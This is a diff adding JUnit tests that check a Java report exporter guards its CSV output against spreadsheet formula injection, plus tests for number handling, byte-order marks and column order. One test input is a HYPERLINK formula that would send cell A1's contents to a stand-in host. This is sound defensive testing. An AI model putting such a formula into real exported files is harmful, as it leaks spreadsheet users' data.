@@ -10,6 +10,7 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
 import io.github.bilateral.io.Reports;
+import io.github.bilateral.model.Actor;
 import io.github.bilateral.model.Report;
 import io.github.bilateral.testing.Gen;
 import io.github.bilateral.testing.Generators;
@@ -19,9 +20,11 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.HashSet;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -102,27 +105,31 @@ class CsvTablesTest {
       assertThat(rows).hasSize(t.parts().size());
       for (int i = 0; i < rows.size(); i++) {
         Map<String, String> expected = new LinkedHashMap<>();
-        leaves(JSON.readTree(ReportParts.compact(t.parts().get(i))), "", expected);
+        Set<String> numbers = new HashSet<>();
+        leaves(JSON.readTree(ReportParts.compact(t.parts().get(i))), "", expected, numbers);
         Map<String, String> row = rows.get(i);
         for (Map.Entry<String, String> cell : row.entrySet()) {
-          assertThat(cell.getValue()).as(t.name() + "[" + i + "]." + cell.getKey())
-              .isEqualTo(expected.getOrDefault(cell.getKey(), ""));
+          String value = expected.getOrDefault(cell.getKey(), "");
+          String where = t.name() + "[" + i + "]." + cell.getKey();
+          boolean risky = !value.isEmpty() && "=+-@\t\r\n'".indexOf(value.charAt(0)) >= 0
+              && !numbers.contains(cell.getKey());
+          assertThat(cell.getValue()).as(where).isEqualTo(risky ? "'" + value : value);
         }
         assertThat(row.keySet()).containsAll(expected.keySet());
       }
     }
   }
 
-  private static void leaves(JsonNode n, String path, Map<String, String> out) {
+  private static void leaves(JsonNode n, String path, Map<String, String> out, Set<String> numbers) {
     if (n.isObject()) {
       for (Map.Entry<String, JsonNode> f : n.properties()) {
-        leaves(f.getValue(), path.isEmpty() ? f.getKey() : path + "." + f.getKey(), out);
+        leaves(f.getValue(), path.isEmpty() ? f.getKey() : path + "." + f.getKey(), out, numbers);
       }
     } else if (n.isArray()) {
       List<String> plain = new ArrayList<>();
       for (int i = 0; i < n.size(); i++) {
         if (n.get(i).isContainerNode()) {
-          leaves(n.get(i), path + "[" + i + "]", out);
+          leaves(n.get(i), path + "[" + i + "]", out, numbers);
         } else {
           plain.add(text(n.get(i)));
         }
@@ -133,6 +140,9 @@ class CsvTablesTest {
       }
     } else {
       out.put(path, text(n));
+      if (n.isNumber()) {
+        numbers.add(path);
+      }
     }
   }
 
@@ -164,6 +174,97 @@ class CsvTablesTest {
       row.put(k, "x");
     }
     return row;
+  }
+
+  /** The bundled report with the first actor renamed and given aliases, to reach the CSV. */
+  private static Report withFirstActor(String name, String... aliases) {
+    Report r = Reports.usPakistan2023();
+    List<Actor> actors = new ArrayList<>(r.actors());
+    actors.set(0, Actor.copyOf(actors.get(0)).withName(name).withAliases(aliases));
+    return Report.copyOf(r).withActors(actors);
+  }
+
+  @Test
+  void cellsThatWouldStartAFormulaAreQuotedAndPrefixedWithAnApostrophe() {
+    Report r = withFirstActor("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "@SUM(1)");
+    String csv = new String(table(r, "actors"), StandardCharsets.UTF_8);
+    String row = csv.lines().skip(1).findFirst().orElseThrow();
+    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"x\"\")\",\"'@SUM(1)\",");
+    for (String start : List.of("=", "+", "-", "@", "'")) {
+      String name = start + "1+2";
+      String written = new String(table(withFirstActor(name), "actors"), StandardCharsets.UTF_8);
+      assertThat(written).as("a name starting with %s", start).contains(",\"'" + name + "\",");
+    }
+    // Names cannot begin with white space; a summary or note could hold any text.
+    for (String start : List.of("\t", "\r", "\n")) {
+      String json = "{\"summary\":\"" + (start.equals("\t") ? "\\t" : start.equals("\r") ? "\\r" : "\\n") + "=1+2\"}";
+      assertThat(CsvTables.flatten(json.getBytes(StandardCharsets.UTF_8), CsvOptions.defaults()))
+          .containsExactly(Map.entry("summary", "'" + start + "=1+2"));
+    }
+  }
+
+  @Test
+  void exactCellsLeaveEveryValueAsItIs() {
+    Report r = withFirstActor("=1+2", "-x");
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    Exporter.csvTable(r, "actors", out, CsvOptions.defaults().withExactCells());
+    String row = new String(out.toByteArray(), StandardCharsets.UTF_8).lines().skip(1).findFirst().orElseThrow();
+    assertThat(row).contains(",=1+2,-x,").doesNotContain("'");
+  }
+
+  @Test
+  void numbersAreNeverPrefixedAndPlainTextIsLeftAlone() {
+    Map<String, String> safe = CsvTables.flatten(
+        "{\"n\":-5,\"d\":-0.5,\"t\":\"-5\",\"p\":\"Pakistan\",\"l\":[\"=a\",\"b\"]}".getBytes(StandardCharsets.UTF_8),
+        CsvOptions.defaults());
+    assertThat(safe).containsExactly(Map.entry("n", "-5"), Map.entry("d", "-0.5"), Map.entry("t", "'-5"),
+        Map.entry("p", "Pakistan"), Map.entry("l", "'=a|b"));
+  }
+
+  @Test
+  void theBundledTablesAreTheSameWithExactCells() {
+    Report r = Reports.usPakistan2023();
+    for (String name : Exporter.csvTables(r)) {
+      ByteArrayOutputStream exact = new ByteArrayOutputStream();
+      Exporter.csvTable(r, name, exact, CsvOptions.defaults().withExactCells());
+      assertThat(table(r, name)).as(name).isEqualTo(exact.toByteArray());
+    }
+  }
+
+  @Test
+  void aByteOrderMarkOnlyWhenAskedFor(@TempDir Path dir) throws Exception {
+    Report r = Reports.usPakistan2023();
+    assertThat(table(r, "loans")).startsWith("id,".getBytes(StandardCharsets.UTF_8));
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    Exporter.csvTable(r, "loans", out, CsvOptions.defaults().withByteOrderMark());
+    assertThat(out.toByteArray()).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF, (byte) 'i', (byte) 'd');
+    Exporter.exportTo(r, ExportFormat.CSV, dir, CsvOptions.defaults().withByteOrderMark());
+    assertThat(Files.readAllBytes(dir.resolve("actors.csv"))).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
+  }
+
+  @Test
+  void eachElementOfAListKeepsItsFieldsTogether() {
+    List<Map<String, String>> rows = List.of(
+        row("id", "offices[0].title", "offices[1].title", "summary"),
+        row("id", "offices[0].title", "offices[0].organisation", "offices[0].from"),
+        row("id", "amount.value", "status"),
+        row("id", "amount.value", "amount.currency", "status", "summary"));
+    assertThat(CsvTables.columns(rows)).containsExactly("id", "offices[0].title", "offices[0].organisation",
+        "offices[0].from", "offices[1].title", "amount.value", "amount.currency", "status", "summary");
+  }
+
+  @Test
+  void theBundledActorsTableGroupsEachOffice() {
+    String header = new String(table(Reports.usPakistan2023(), "actors"), StandardCharsets.UTF_8).lines()
+        .findFirst().orElseThrow();
+    List<String> columns = List.of(header.split(","));
+    for (int i = 1; i < columns.size(); i++) {
+      String element = columns.get(i).replaceAll("^(offices\\[\\d+\\]).*", "$1");
+      String before = columns.get(i - 1).replaceAll("^(offices\\[\\d+\\]).*", "$1");
+      if (!element.equals(before)) {
+        assertThat(columns.subList(0, i - 1)).as(header).noneMatch(c -> c.startsWith(element + "."));
+      }
+    }
   }
 
   @Test
